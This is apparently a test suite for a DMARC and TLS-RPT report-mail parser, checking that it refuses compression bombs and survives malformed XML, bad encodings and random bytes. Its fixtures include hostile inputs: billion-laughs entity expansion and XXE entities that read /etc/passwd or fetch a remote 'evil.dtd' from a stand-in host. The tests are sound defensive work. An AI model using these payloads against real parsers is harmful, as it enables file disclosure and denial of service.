// What reporters (or anyone able to mail the report address) may send that is broken or hostile:
// compression bombs, entity expansion and external entities, XML that is not well-formed, bad
// UTF-8, numbers as strings, missing fields, random bytes; and a report of 20,000 rows, as
// Google sends for a large domain. readReportMail must read what can be read, say the rest, and
// never throw. Each bound below is loose on purpose: the suite runs on loaded 2-core machines.
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import fc from 'fast-check';
import { readDmarcXml, readReportMail, readTlsJson } from '../../src/dmarc-reports/read-report-mail.js';
import type { DmarcAggregateReport, ReportMailReading } from '../../src/dmarc-reports/report-types.js';
import { unpack } from '../../src/dmarc-reports/unpack.js';
import { deflatedZeros, gzip, gzipMember, largeReport, reportMail, sample, singlePartMail, zip, zipEntry } from '../fixtures/dmarc-reports/report-mail.js';

const MiB = 1024 * 1024;

/** CPU time (this process, all threads) and resident-memory growth while `work` runs. */
function measure<T>(work: () => T): { result: T; cpuMs: number; rssGrowthMiB: number } {
  const rss = process.memoryUsage().rss;
  const cpu = process.cpuUsage();
  const result = work();
  const used = process.cpuUsage(cpu);
  return { result, cpuMs: (used.user + used.system) / 1000, rssGrowthMiB: (process.memoryUsage().rss - rss) / MiB };
}

function refusedAsBomb(reading: ReportMailReading | null) {
  assert.ok(reading, 'a bomb must be said, not passed over');
  assert.deepEqual(reading.reports, []);
  assert.equal(reading.unreadable.length, 1);
  assert.match(reading.unreadable[0]!.reason, /past the bound of 52428800/);
}

const dmarc = (reading: ReportMailReading | null) => {
  assert.ok(reading);
  assert.deepEqual(reading.unreadable, []);
  assert.equal(reading.reports.length, 1);
  return reading.reports[0] as DmarcAggregateReport;
};
const xmlMail = (xml: string | Uint8Array) => reportMail([{ filename: 'report.xml', contentType: 'text/xml', content: xml }]);

describe('compression bombs are refused without being inflated', () => {
  it('a gzip of 2 GiB of zeros (2 MB sent): refused at the 50 MiB bound', async () => {
    const bomb = gzipMember(await deflatedZeros(2048), 2048 * MiB);
    const mail = await singlePartMail({ filename: 'report.xml.gz', contentType: 'application/gzip', content: bomb });
    const { result, cpuMs, rssGrowthMiB } = measure(() => readReportMail(mail));
    refusedAsBomb(result);
    // Inflating all of it would take seconds of CPU and 2 GiB; the bound stops it after ~50 MiB.
    assert.ok(cpuMs < 3000, `${cpuMs} ms of CPU`);
    assert.ok(rssGrowthMiB < 400, `${rssGrowthMiB} MiB more resident`);
  });

  it('a gzip of 300 members of 1 MiB of zeros each: the bound is on the whole, not per member', async () => {
    const member = gzip(Buffer.alloc(MiB));
    const bomb = Buffer.concat(Array.from({ length: 300 }, () => member));
    refusedAsBomb(readReportMail(await reportMail([{ filename: 'r.xml.gz', contentType: 'application/gzip', content: bomb }])));
  });

  it('a zip declaring its 2 GiB entry: refused from the directory, nothing inflated', async () => {
    const bomb = zipEntry('report.xml', await deflatedZeros(2048), 2 ** 31);
    const mail = await reportMail([{ filename: 'report.zip', contentType: 'application/zip', content: bomb }]);
    const { result, cpuMs } = measure(() => readReportMail(mail));
    refusedAsBomb(result);
    assert.match(result!.unreadable[0]!.reason, /declare/);
    assert.ok(cpuMs < 1000, `${cpuMs} ms of CPU`);
  });

  it('a zip lying about its 2 GiB entry (declared 1 KB): inflation stopped once past the bound', async () => {
    const bomb = zipEntry('report.xml', await deflatedZeros(2048), 1024);
    const mail = await reportMail([{ filename: 'report.zip', contentType: 'application/zip', content: bomb }]);
    const { result, cpuMs, rssGrowthMiB } = measure(() => readReportMail(mail));
    refusedAsBomb(result);
    assert.match(result!.unreadable[0]!.reason, /inflates past/);
    assert.ok(cpuMs < 6000, `${cpuMs} ms of CPU`);
    assert.ok(rssGrowthMiB < 400, `${rssGrowthMiB} MiB more resident`);
  });

  it('a bomb is said even in a part that does not claim to be a report', async () => {
    const bomb = zipEntry('photo.jpg', await deflatedZeros(64), 64 * MiB);
    refusedAsBomb(readReportMail(await reportMail([{ filename: 'photos.zip', contentType: 'application/zip', content: bomb }])));
  });

  it('the bound is exact and the caller may lower it', () => {
    const xml = sample('google');
    assert.ok('files' in unpack(gzip(xml), xml.length));
    assert.ok('refused' in unpack(gzip(xml), xml.length - 1));
    assert.ok('files' in unpack(zip({ 'r.xml': xml }), xml.length));
    assert.ok('refused' in unpack(zip({ 'r.xml': xml }), xml.length - 1));
  });

  it('maxInflatedBytes is passed on', async () => {
    const mail = await reportMail([{ filename: 'r.xml.gz', contentType: 'application/gzip', content: gzip(sample('google')) }]);
    const reading = readReportMail(mail, { maxInflatedBytes: 100 });
    assert.match(reading?.unreadable[0]?.reason ?? '', /past the bound of 100 bytes/);
    assert.equal(dmarc(readReportMail(mail)).rows.length, 2);
  });
});

describe('entities are never expanded, external ones never fetched', () => {
  it('billion laughs: read at once, the reference left as written', async () => {
    const levels = Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i};`.repeat(10)}">`).join('\n');
    const xml = `<?xml version="1.0"?>\n<!DOCTYPE feedback [\n<!ENTITY lol0 "lol">\n${levels}\n]>\n${sample('yahoo')
      .toString()
      .replace(/^<\?xml[^>]*>/, '')
      .replace('<org_name>Yahoo</org_name>', '<org_name>&lol9;</org_name>')}`;
    const mail = await xmlMail(xml);
    const timed = measure(() => readReportMail(mail));
    const report = dmarc(timed.result);
    assert.equal(report.orgName, '&lol9;');
    assert.equal(report.rows.length, 1);
    assert.deepEqual(report.problems, ['a DOCTYPE was skipped: the entities it declares are never expanded']);
    assert.ok(timed.cpuMs < 1000, `${timed.cpuMs} ms of CPU`);
  });

  it('external entities (a file, a URL, a parameter entity) are not resolved', async () => {
    const xml = `<?xml version="1.0"?>
<!DOCTYPE feedback [
  <!ENTITY xxe SYSTEM "file:///etc/passwd">
  <!ENTITY web SYSTEM "http://192.0.2.1/secret">
  <!ENTITY % remote SYSTEM "http://192.0.2.1/evil.dtd"> %remote;
]>
${sample('outlook')
  .toString()
  .replace(/^<\?xml[^>]*>/, '')
  .replace('<org_name>Outlook.com</org_name>', '<org_name>&xxe;</org_name>')
  .replace('<report_id>', '<report_id>&web;')}`;
    const reading = readReportMail(await xmlMail(xml));
    const report = dmarc(reading);
    assert.equal(report.orgName, '&xxe;');
    assert.equal(report.reportId, '&web;cfeafefe4129445e8c81018bd9177197');
    assert.doesNotMatch(JSON.stringify(reading), /root:/);
  });

  it('the five predefined entities and character references are decoded', () => {
    const xml = sample('draft').toString().replace('<org_name>acme.example</org_name>', '<org_name>A&amp;B &lt;x&gt; &quot;&apos; &#233;&#x263A;</org_name>');
    const read = readDmarcXml(xml);
    assert.ok('report' in read);
    assert.equal(read.report.orgName, 'A&B <x> "\' é☺');
  });
});

describe('reports that are not as they should be: read what can be read, say the rest', () => {
  const records = (xml: string) => xml.split('<record>');

  it('a record that is not well-formed is skipped, the others read', async () => {
    const parts = records(largeReport(3));
    parts[2] = parts[2]!.replace('</count>', '</cnt>');
    const report = dmarc(readReportMail(await xmlMail(parts.join('<record>'))));
    assert.deepEqual(
      report.rows.map((r) => r.count),
      [1, 3],
    );
    assert.equal(report.problems.filter((p) => p.startsWith('record 2: not well-formed')).length, 1, report.problems.join('\n'));
  });

  it('a report cut short: the whole records read, the cut one said', async () => {
    const xml = largeReport(3);
    const cut = xml.slice(0, xml.lastIndexOf('<spf>'));
    const report = dmarc(readReportMail(await xmlMail(cut)));
    assert.equal(report.rows.length, 2);
    assert.ok(
      report.problems.some((p) => /record 3: not well-formed \(.*ends inside/.test(p)),
      report.problems.join('\n'),
    );
  });

  it('a gzip cut short: what it held is read, and the cut said', async () => {
    const gz = gzip(largeReport(200));
    const report = dmarc(
      readReportMail(await reportMail([{ filename: 'r.xml.gz', contentType: 'application/gzip', content: gz.subarray(0, gz.length >> 1) }])),
    );
    assert.ok(report.rows.length > 10 && report.rows.length < 200, `${report.rows.length} rows`);
    assert.ok(report.problems.includes('gzip member 1: cut short (its end is missing)'), report.problems.join('\n'));
  });

  it('bad UTF-8, a BOM, UTF-16, a declared Latin-1', async () => {
    const bad = Buffer.concat([
      Buffer.from('<?xml version="1.0"?><feedback><report_metadata><org_name>Exa'),
      Buffer.from([0xff, 0xfe]),
      Buffer.from('mple</org_name>'),
    ]);
    const badReport = dmarc(readReportMail(await xmlMail(Buffer.concat([bad, sample('yahoo').subarray(sample('yahoo').indexOf('<email>'))]))));
    assert.equal(badReport.orgName, 'Exa\uFFFD\uFFFDmple');
    assert.ok(badReport.problems.includes('not valid UTF-8: the bad bytes were replaced with U+FFFD'));

    const bom = dmarc(readReportMail(await xmlMail(Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), sample('google')]))));
    assert.deepEqual(bom.problems, []);
    const utf16 = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(sample('outlook').toString(), 'utf16le')]);
    assert.equal(
      dmarc(readReportMail(await reportMail([{ filename: 'r.xml.gz', contentType: 'application/gzip', content: gzip(utf16) }]))).orgName,
      'Outlook.com',
    );
    const latin1 = Buffer.from(sample('draft').toString().replace('UTF-8', 'ISO-8859-1').replace('acme.example', 'Société'), 'latin1');
    assert.equal(
      dmarc(readReportMail(await reportMail([{ filename: 'r.xml.gz', contentType: 'application/gzip', content: gzip(latin1) }]))).orgName,
      'Société',
    );
  });

  it('numbers as padded strings, an ISO date, missing fields', () => {
    const xml = sample('yahoo')
      .toString()
      .replace('<org_name>Yahoo</org_name>', '')
      .replace('<count>1</count>', '<count> 12 </count>')
      .replace('<pct>100</pct>', '<pct>100.0</pct>')
      .replace('<begin>1665532800</begin>', '<begin>2022-10-12T00:00:00Z</begin>')
      .replace('<report_id>1665623424.142074</report_id>', '');
    const read = readDmarcXml(xml);
    assert.ok('report' in read);
    assert.equal(read.report.orgName, 'yahooinc.com');
    assert.equal(read.report.rows[0]!.count, 12);
    assert.equal(read.report.policy.pct, 100);
    assert.equal(read.report.periodBegin.toISOString(), '2022-10-12T00:00:00.000Z');
    assert.deepEqual(read.report.problems, ["no org_name: taken from the email's domain", 'no report_id']);
  });

  it('a row whose count or source is unreadable is skipped and said', () => {
    const parts = largeReport(3).split('<record>');
    parts[1] = parts[1]!.replace(/<count>\d+<\/count>/, '<count>many</count>');
    parts[3] = parts[3]!.replace(/<source_ip>[^<]+<\/source_ip>/, '');
    const read = readDmarcXml(parts.join('<record>'));
    assert.ok('report' in read);
    assert.equal(read.report.rows.length, 1);
    assert.deepEqual(read.report.problems, ['record 1: count "many" is not a number, skipped', 'record 3: no source_ip, skipped']);
  });

  it('problems quote values short and stop at 100', () => {
    const xml = largeReport(300)
      .replaceAll(/<count>\d+<\/count>/g, '<count>many</count>')
      .replace(/<source_ip>[^<]+<\/source_ip>/, `<source_ip>${'9'.repeat(100_000)}</source_ip>`);
    const read = readDmarcXml(xml);
    assert.ok('report' in read);
    assert.equal(read.report.rows.length, 0);
    assert.equal(read.report.problems.length, 100);
    assert.equal(read.report.problems[0], `record 1: source_ip "${'9'.repeat(64)}…" is not an IP address`);
    assert.equal(read.report.problems[99], '…and 202 more problems');
  });

  it('XML with no report in it, JSON that does not parse: unreadable, with why', async () => {
    const garbled = readReportMail(await xmlMail('<?xml version="1.0"?><feedback'));
    assert.match(garbled?.unreadable[0]?.reason ?? '', /not well-formed XML/);
    const json = readReportMail(await reportMail([{ filename: 'r.json', contentType: 'application/tlsrpt+json', content: '{"organization-name": "x", ' }]));
    assert.match(json?.unreadable[0]?.reason ?? '', /^not JSON/);
    const brokenGzip = readReportMail(
      await reportMail([{ filename: 'r.xml.gz', contentType: 'application/gzip', content: Buffer.from([0x1f, 0x8b, 8, 0, 1, 2, 3]) }]),
    );
    assert.match(brokenGzip?.unreadable[0]?.reason ?? '', /not readable as gzip/);
  });
});

describe('never throws', () => {
  const TYPES = ['text/xml', 'application/gzip', 'application/zip', 'application/tlsrpt+json', 'application/tlsrpt+gzip', 'application/octet-stream'];
  const SAMPLES = ['google', 'outlook', 'dmarcbis', 'tls-google'];

  it('on random bytes as any report type', async () => {
    await fc.assert(
      fc.asyncProperty(fc.uint8Array({ maxLength: 2048 }), fc.constantFrom(...TYPES), async (bytes, contentType) => {
        readReportMail(await reportMail([{ filename: 'r.xml.gz', contentType, content: bytes }]));
        readDmarcXml(bytes);
        readTlsJson(bytes);
      }),
      { numRuns: 150 },
    );
  });

  it('on every sample cut anywhere and with bytes changed, plain, gzip and zip', () => {
    fc.assert(
      fc.property(
        fc.constantFrom(...SAMPLES),
        fc.constantFrom('plain', 'gzip', 'zip'),
        fc.double({ min: 0, max: 1, noNaN: true }),
        fc.array(fc.tuple(fc.double({ min: 0, max: 1, noNaN: true }), fc.integer({ min: 0, max: 255 })), { maxLength: 4 }),
        (name, packing, cutAt, changes) => {
          const raw = sample(name);
          const packed = packing === 'gzip' ? gzip(raw) : packing === 'zip' ? zip({ 'r.xml': raw }) : Buffer.from(raw);
          const bytes = Buffer.from(packed.subarray(0, Math.max(1, Math.round(packed.length * cutAt))));
          for (const [at, value] of changes) bytes[Math.floor(at * (bytes.length - 1))] = value;
          const email = {
            attachments: [
              { filename: 'r', mimeType: 'application/octet-stream', content: bytes.buffer.slice(bytes.byteOffset, bytes.byteOffset + bytes.length) },
            ],
          };
          readReportMail(email as never);
          readDmarcXml(bytes);
          readTlsJson(bytes);
        },
      ),
      { numRuns: 400 },
    );
  });

  it('on a message without attachments or text, and on odd attachment contents', () => {
    assert.equal(readReportMail({ attachments: [] } as never), null);
    assert.equal(readReportMail({ attachments: [{ mimeType: 'text/xml', content: undefined }] } as never), null);
    assert.equal(
      readReportMail({ attachments: [{ mimeType: 'text/xml', content: sample('google').toString('base64'), encoding: 'base64' }] } as never)?.reports.length,
      1,
    );
  });
});

describe('a large report', () => {
  it('20,000 rows, as Google sends for a large domain, read in well under 2 s', async (t) => {
    const xml = largeReport(20_000);
    const mail = await reportMail([{ filename: 'google.com!example.com!1549929600!1550015999.xml.gz', contentType: 'application/gzip', content: gzip(xml) }]);
    const { result, cpuMs } = measure(() => readReportMail(mail));
    const report = dmarc(result);
    assert.equal(report.rows.length, 20_000);
    assert.deepEqual(report.problems, []);
    // CPU time, not wall time: other suites share the machine. Well under 2 s is ~0.3 s on an idle 2-core machine.
    t.diagnostic(`${Math.round(cpuMs)} ms of CPU for ${xml.length} bytes of XML (${gzip(xml).length} gzipped)`);
    assert.ok(cpuMs < 2000, `${cpuMs} ms of CPU for ${xml.length} bytes of XML`);
  });
});
